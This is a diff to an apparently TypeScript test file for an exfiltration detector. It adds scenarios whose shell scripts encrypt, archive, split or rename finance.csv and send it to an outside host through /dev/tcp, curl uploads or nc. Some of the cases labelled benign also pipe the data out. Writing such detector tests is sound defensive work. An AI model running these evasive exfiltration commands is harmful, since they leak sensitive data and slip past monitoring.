@@ -67,6 +67,24 @@ python3 send.py`,
     sender: /curl$/,
     script: `7z a -pSecret -mhe=on big.7z finance.csv\nsplit -b 6000 big.7z part.\nfor f in part.*; do curl -s -m 5 -T "$f" http://${OUTSIDE}:9007/; done`,
   },
+  {
+    name: 'shell connects, then becomes cat',
+    port: 9008,
+    sender: /bash$/,
+    script: `openssl enc -aes-256-cbc -k x -in finance.csv -out cat.bin\ncat cat.bin > /dev/tcp/${OUTSIDE}/9008`,
+  },
+  {
+    name: 'volumes of an archive',
+    port: 9009,
+    sender: /curl$/,
+    script: `7z a -pSecret -v6k vol.7z finance.csv\nfor f in vol.7z.0*; do curl -s -m 5 -T "$f" http://${OUTSIDE}:9009/; done`,
+  },
+  {
+    name: 'renamed on the way, typed words beside it',
+    port: 9014,
+    sender: /curl$/,
+    script: `openssl enc -aes-256-cbc -k x -in finance.csv -out mv.bin; mv mv.bin holiday.jpg\ncurl -s -m 5 -F f=@holiday.jpg http://${OUTSIDE}:9014/; curl -s -m 5 -d '{"status":"ok"}' http://${OUTSIDE}:9015/`,
+  },
 ];
 
 const BENIGN: readonly Scenario[] = [
@@ -81,6 +99,24 @@ const BENIGN: readonly Scenario[] = [
     port: 9011,
     sender: /curl$/,
     script: `openssl enc -aes-256-cbc -k x -in finance.csv -out kept.bin; date > log.txt; curl -s -m 5 -T log.txt http://${OUTSIDE}:9011/`,
+  },
+  {
+    name: 'looks at ports and reports a status',
+    port: 9016,
+    sender: /curl$/,
+    script: `openssl enc -aes-256-cbc -k x -in finance.csv -out kept.bin; nc -z -w 1 ${OUTSIDE} 9016; curl -s -m 5 -d '{"status":"ok"}' http://${OUTSIDE}:9016/`,
+  },
+  {
+    name: 'a word beside an upload',
+    port: 9015,
+    sender: /curl$/,
+    script: 'true',
+  },
+  {
+    name: 'pipes here, uploads another archive there',
+    port: 9017,
+    sender: /curl$/,
+    script: `openssl enc -aes-256-cbc -k x -in finance.csv | nc -w 2 ${OUTSIDE} 9018; 7z a other.7z finance.csv; curl -s -m 5 -T other.7z http://${OUTSIDE}:9017/`,
   },
   {
     name: 'packs without a password',
